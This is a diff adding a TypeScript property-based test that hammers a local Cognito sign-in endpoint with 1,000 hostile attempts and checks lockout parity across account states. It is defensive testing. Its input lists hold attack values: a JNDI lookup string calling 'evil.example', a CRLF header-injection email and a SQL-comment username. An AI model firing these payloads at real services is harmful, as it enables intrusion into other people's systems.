@@ -1,0 +1,160 @@
+import * as fc from 'fast-check';
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import pg from 'pg';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+
+import { record, setting } from './support/figures';
+import { hostileString, INJECTION_PAYLOADS, SPLITTING, UNICODE_EDGES } from './support/hostile';
+import { cognitoCall } from './support/sign-in';
+
+/**
+ * Sign-in abuse through the local Cognito endpoint (the emulator behind our proxy, with the real
+ * triggers on PostgreSQL): RESILIENCE_SIGN_IN_ATTEMPTS hostile attempts (default 1,000), then the
+ * lockout compared for an existing, a disabled and an unknown account.
+ */
+const ATTEMPTS = setting('SIGN_IN_ATTEMPTS', 1_000);
+const CONCURRENCY = 8;
+
+process.env.POWERTOOLS_LOG_LEVEL = 'SILENT';
+const { startDevServer } = await import('../../bin/local/dev-server');
+type DevServer = Awaited<ReturnType<typeof startDevServer>>;
+
+let server: DevServer;
+let dataDir: string;
+let db: pg.Pool;
+
+beforeAll(async () => {
+  dataDir = await mkdtemp(join(tmpdir(), 'parley-resilience-sign-in-'));
+  process.env.DATABASE_URL = inject('databaseUrl');
+  server = await startDevServer({ port: 0, cognitoPort: 0, dataDir, quiet: true, bootstrapAdmin: false });
+  db = new pg.Pool({ connectionString: inject('databaseUrl'), max: 2 });
+}, 180_000);
+
+afterAll(async () => {
+  await db?.end();
+  await server?.stop();
+  if (dataDir) await rm(dataDir, { recursive: true, force: true });
+});
+
+const signIn = (username: unknown, password: unknown) =>
+  cognitoCall(server.cognitoEndpoint, 'InitiateAuth', {
+    AuthFlow: 'USER_PASSWORD_AUTH',
+    ClientId: server.clientId,
+    AuthParameters: { USERNAME: username, PASSWORD: password },
+  });
+
+/** What no answer may hold: our insides, or words that tell an account exists or is disabled. */
+const INTERNAL =
+  /\bat \S+ \(|\bat \S+:\d+:\d+|node_modules|\.ts:\d+|TypeError|ReferenceError|RangeError|SyntaxError|SQLSTATE|syntax error|violates|postgres|ECONN|Cannot read|undefined|\[object Object\]/i;
+const EXISTENCE = /disabled|does not exist|not found|UserNotFound/i;
+
+const password = fc.oneof(
+  hostileString,
+  fc.constantFrom('', ' ', 'a'.repeat(300), 'Passw0rd!', 'x\u0000y', ...INJECTION_PAYLOADS),
+);
+const username = fc.oneof(
+  hostileString,
+  fc.emailAddress(),
+  fc.constantFrom(
+    '',
+    'admin',
+    'root@localhost',
+    "admin'--@example.test",
+    'a@b.c\r\nBcc: x@evil.example',
+    '${jndi:ldap://evil.example/a}',
+    ...SPLITTING,
+    ...UNICODE_EDGES,
+  ),
+  // Not even strings: what a client library would never send, and an attacker would.
+  fc.constantFrom(null, 42, true, ['a'], { __proto__: null }),
+);
+
+describe('sign-in abuse', () => {
+  it(`${ATTEMPTS.toLocaleString('en')} hostile sign-in attempts: no internal error text, no tokens`, async (context) => {
+    const cases = fc.sample(fc.tuple(username, password), { numRuns: ATTEMPTS, seed: 13 });
+    const answers = new Map<string, number>();
+    const bad: string[] = [];
+    let next = 0;
+    await Promise.all(
+      Array.from({ length: CONCURRENCY }, async () => {
+        for (let i = next++; i < cases.length; i = next++) {
+          const [user, pass] = cases[i] as [unknown, unknown];
+          const answer = await signIn(user, pass);
+          const type = String(answer.body.__type ?? answer.body.code ?? '?');
+          const message = String(answer.body.message ?? answer.body.Message ?? '');
+          const key = `${answer.status} ${type}: ${message}`;
+          answers.set(key, (answers.get(key) ?? 0) + 1);
+          const problem =
+            answer.status >= 500
+              ? 'a 5xx'
+              : answer.body.AuthenticationResult
+                ? 'tokens'
+                : INTERNAL.test(answer.text)
+                  ? 'internal text'
+                  : EXISTENCE.test(answer.text)
+                    ? 'a word that tells the account exists'
+                    : undefined;
+          if (problem)
+            bad.push(
+              `${problem}: ${JSON.stringify([user, pass]).slice(0, 120)} → ${answer.text.slice(0, 200)}`,
+            );
+        }
+      }),
+    );
+    record(
+      context,
+      { name: 'attempts', value: cases.length, target: `${ATTEMPTS}` },
+      { name: 'answers', value: [...answers].map(([k, n]) => `${n}× ${k}`).join(' | ') },
+      { name: 'answers with internal text, a 5xx or tokens', value: bad.length, target: '0' },
+    );
+    expect(bad.slice(0, 10)).toEqual([]);
+  });
+
+  it('counts the lockout the same way for existing, disabled and unknown accounts', async (context) => {
+    const password = `${randomUUID()}aA1!`;
+    const existing = await server.createUser({
+      email: `abuse-${randomUUID().slice(0, 8)}@example.test`,
+      password,
+      role: 'members',
+    });
+    const disabled = await server.createUser({
+      email: `abuse-${randomUUID().slice(0, 8)}@example.test`,
+      password,
+      role: 'members',
+    });
+    await db.query("update users set status = 'disabled' where id = $1", [disabled.id]);
+    const unknown = `abuse-${randomUUID().slice(0, 8)}@example.test`;
+
+    const sequence = async (email: string, right: string) => {
+      const seen: string[] = [];
+      for (let i = 0; i < 6; i += 1) {
+        const answer = await signIn(email, `Wrong-${i}-${randomUUID()}`);
+        seen.push(`${answer.status} ${String(answer.body.__type)}: ${String(answer.body.message)}`);
+      }
+      const last = await signIn(email, right);
+      seen.push(`right password → ${last.status} ${String(last.body.__type)}: ${String(last.body.message)}`);
+      const counted = await db.query<{ failed_count: number; locked: boolean }>(
+        'select failed_count, locked_until > now() as locked from sign_in_attempts where username = $1',
+        [email.toLowerCase()],
+      );
+      return { seen, counted: counted.rows[0] ?? { failed_count: 0, locked: false } };
+    };
+    const forExisting = await sequence(existing.email, password);
+    const forDisabled = await sequence(disabled.email, password);
+    const forUnknown = await sequence(unknown, password);
+    record(
+      context,
+      { name: 'existing', value: `${JSON.stringify(forExisting.counted)} ${forExisting.seen.join(' / ')}` },
+      { name: 'disabled', value: `${JSON.stringify(forDisabled.counted)} ${forDisabled.seen.join(' / ')}` },
+      { name: 'unknown', value: `${JSON.stringify(forUnknown.counted)} ${forUnknown.seen.join(' / ')}` },
+    );
+    expect(forExisting.counted).toMatchObject({ failed_count: 5, locked: true });
+    expect(forDisabled.seen).toEqual(forExisting.seen);
+    expect(forDisabled.counted).toEqual(forExisting.counted);
+    expect(forUnknown.seen).toEqual(forExisting.seen);
+    expect(forUnknown.counted).toEqual(forExisting.counted);
+  });
+});
